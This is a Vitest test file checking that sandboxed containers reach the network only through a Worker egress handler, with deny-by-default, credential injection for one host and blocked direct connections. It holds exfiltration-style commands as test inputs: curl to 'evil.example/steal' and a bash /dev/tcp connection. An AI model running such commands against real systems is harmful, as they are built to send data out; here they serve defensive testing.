import { mkdtemp, rm } from "node:fs/promises";
import type { IncomingMessage, RequestListener } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createLocalContainerServer } from "../src/server/server.js";
import { createLocalContainerRuntime } from "../src/shim/local-runtime.js";
import { type EgressHarness, startEgressHarness } from "./worker-egress-harness.js";
import { authorizedFetch } from "./helpers.js";
const SECRET = `injected-${Math.random().toString(36).slice(2)}`;

/**
 * Worker-routed egress on the real server and the shim's runtime object (run here in Node, where it
 * drives the server exactly as in workerd). The fetcher stands in for workerd's `ContainerProxy`
 * loopback: it runs what an outbound handler does (deny by default, inject a credential for one host).
 */
describe("a container started with enableInternet: false reaches the network only through its Worker", () => {
  let harness: EgressHarness;
  const received: IncomingMessage["headers"][] = [];
  const upstream: RequestListener = (request, response) => {
    received.push(request.headers);
    response.end(`upstream saw ${request.method} ${request.url}`);
  };
  const handled: string[] = [];
  const fetcher = {
    async fetch(input: Request | string, init?: RequestInit): Promise<Response> {
      const request = new Request(input, init);
      const url = new URL(request.url);
      handled.push(`${request.method} ${url.host}${url.pathname}`);
      if (url.hostname !== "api.upstream.test")
        return new Response("denied by the handler", {
          status: 403,
          headers: { "x-oma-egress": "egress_denied" },
        });
      const headers = new Headers(request.headers);
      headers.set("authorization", `Bearer ${SECRET}`);
      const port = harness.upstreamPort;
      return fetch(`http://127.0.0.1:${port}${url.pathname}${url.search}`, {
        method: request.method,
        headers,
        ...(request.body ? { body: await request.arrayBuffer() } : {}),
      });
    },
  };

  beforeAll(async () => {
    harness = await startEgressHarness("oma-local-container-worker-egress-", upstream);
  });
  afterAll(() => harness.close());
  const exec = (id: string, command: string): Promise<string> => harness.exec(id, command);
  const started = (id: string): Promise<void> => harness.started(id);

  it("denies by default, injects for the allowed host, and a guest that ignores the proxy gets nothing", async () => {
    const runtime = createLocalContainerRuntime(harness.server.url, "routed", {
      controlToken: harness.server.controlToken,
    });
    await runtime.interceptAllOutboundHttp(fetcher);
    await runtime.interceptOutboundHttps("*", fetcher);
    runtime.start({ enableInternet: false, env: {} });
    await started("routed");
    const upstreamPort = harness.upstreamPort;
    try {
      const allowed = await exec(
        "routed",
        "curl -sS --max-time 30 -H 'Authorization: Bearer forged' -X POST --data guest-body http://api.upstream.test/repos?page=1",
      );
      expect(allowed).toBe("upstream saw POST /repos?page=1");
      expect(received.at(-1)?.authorization).toBe(`Bearer ${SECRET}`);
      expect(received.at(-1)?.["proxy-authorization"]).toBeUndefined();
      const denied = await exec(
        "routed",
        "curl -sS --max-time 30 -o /dev/null -w '%{http_code}' http://evil.example/steal",
      );
      expect(denied).toBe("403");
      // HTTPS is decrypted at the proxy with the server's CA, which the container's own /etc trusts, and
      // goes to the same handler: injected for the allowed host, denied for the rest.
      const https = await exec(
        "routed",
        "curl -sS --max-time 30 -H 'Authorization: Bearer forged' https://api.upstream.test/tls?x=1",
      );
      expect(https).toBe("upstream saw GET /tls?x=1");
      expect(received.at(-1)?.authorization).toBe(`Bearer ${SECRET}`);
      const deniedHttps = await exec(
        "routed",
        "curl -sS --max-time 30 -o /dev/null -w '%{http_code}' https://evil.example/steal",
      );
      expect(deniedHttps).toBe("403");
      const python = await exec(
        "routed",
        "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"https://api.upstream.test/py\", timeout=30).read().decode())'",
      );
      expect(python.trim()).toBe("upstream saw GET /py");
      // Direct connections: curl without the proxy, bash /dev/tcp and a python socket to the host's upstream.
      const direct = await exec(
        "routed",
        [
          `curl -sS --noproxy '*' --max-time 10 http://127.0.0.1:${upstreamPort}/direct >/dev/null 2>&1 && echo curl-reached || echo curl-refused`,
          `(exec 3<>/dev/tcp/127.0.0.1/${upstreamPort}) 2>/dev/null && echo tcp-reached || echo tcp-refused`,
          `python3 -c 'import socket; socket.create_connection(("127.0.0.1", ${upstreamPort}), timeout=5); print("py-reached")' 2>/dev/null || echo py-refused`,
          `python3 -c 'import socket; socket.create_connection(("1.1.1.1", 80), timeout=5); print("py-reached")' 2>/dev/null || echo py-internet-refused`,
        ].join("; "),
      );
      expect(direct.trim().split("\n")).toEqual([
        "curl-refused",
        "tcp-refused",
        "py-refused",
        "py-internet-refused",
      ]);
      expect(received.map((headers) => headers.host)).not.toContain(
        `127.0.0.1:${upstreamPort}/direct`,
      );
      expect(received).toHaveLength(3);
      expect(handled).toEqual([
        "POST api.upstream.test/repos",
        "GET evil.example/steal",
        "GET api.upstream.test/tls",
        "GET evil.example/steal",
        "GET api.upstream.test/py",
      ]);
      // The guest never sees the credential.
      expect(
        await exec(
          "routed",
          `env; grep -rl '${SECRET}' /workspace /tmp 2>/dev/null; echo "grep=$?"`,
        ),
      ).not.toContain(SECRET);
    } finally {
      await runtime.destroy();
    }
  });

  it("without a registered handler a routed container has no route out", async () => {
    const runtime = createLocalContainerRuntime(harness.server.url, "unhandled", {
      controlToken: harness.server.controlToken,
    });
    runtime.start({ enableInternet: false });
    await started("unhandled");
    try {
      expect(
        await exec(
          "unhandled",
          "curl -sS --max-time 30 -o /dev/null -w '%{http_code}' http://api.upstream.test/x",
        ),
      ).toBe("502");
    } finally {
      await runtime.destroy();
    }
  });

  it("after a restart, an adopted routed container is pumped again once interception is re-registered", async () => {
    // Started through the server, as a Durable Object before a workerd restart did: this process has no run state for it.
    await authorizedFetch(harness.server, `${harness.server.url}/__oma/containers/adopted`, {
      method: "PUT",
      body: JSON.stringify({ outbound: "worker" }),
    });
    const runtime = createLocalContainerRuntime(harness.server.url, "adopted", {
      controlToken: harness.server.controlToken,
    });
    await runtime.adopt();
    expect(runtime.running).toBe(true);
    await runtime.interceptAllOutboundHttp(fetcher);
    try {
      expect(
        await exec(
          "adopted",
          "curl -sS --max-time 30 -o /dev/null -w '%{http_code}' http://evil.example/after-restart",
        ),
      ).toBe("403");
      expect(handled.at(-1)).toBe("GET evil.example/after-restart");
    } finally {
      await runtime.destroy();
    }
    // A host-network container adopted the same way still refuses interception.
    await authorizedFetch(harness.server, `${harness.server.url}/__oma/containers/adopted-shared`, {
      method: "PUT",
      body: "{}",
    });
    const shared = createLocalContainerRuntime(harness.server.url, "adopted-shared", {
      controlToken: harness.server.controlToken,
    });
    await shared.adopt();
    await expect(shared.interceptAllOutboundHttp(fetcher)).rejects.toThrow(
      /started without Worker-routed egress/,
    );
    await shared.destroy();
  });

  it("refuses interception of a container already running on the host network", async () => {
    const runtime = createLocalContainerRuntime(harness.server.url, "shared", {
      controlToken: harness.server.controlToken,
    });
    runtime.start({ enableInternet: true });
    await started("shared");
    try {
      await expect(runtime.interceptAllOutboundHttp(fetcher)).rejects.toThrow(
        /started without Worker-routed egress/,
      );
    } finally {
      await runtime.destroy();
    }
  });

  it("refuses a Worker-routed start on an unconfined server", async () => {
    const unsafeRoot = await mkdtemp(join(tmpdir(), "oma-local-container-unsafe-"));
    const unsafe = await createLocalContainerServer({
      rootDir: unsafeRoot,
      confinement: "unconfined-unsafe",
    });
    try {
      const response = await authorizedFetch(unsafe, `${unsafe.url}/__oma/containers/nope`, {
        method: "PUT",
        body: JSON.stringify({ outbound: "worker" }),
      });
      expect(response.ok).toBe(false);
      expect(unsafe.containers.list()).toHaveLength(0);
    } finally {
      await unsafe.close();
      await rm(unsafeRoot, { recursive: true, force: true });
    }
  });
});
